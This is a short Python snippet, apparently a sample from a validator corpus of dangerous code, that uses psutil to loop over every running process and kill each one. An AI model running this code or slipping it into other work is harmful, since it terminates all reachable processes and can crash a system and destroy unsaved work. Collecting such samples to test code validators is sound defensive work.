# ruff: noqa  (validator corpus: dangerous or deliberately plain code, kept as written)
import psutil

for proc in psutil.process_iter():
    proc.kill()
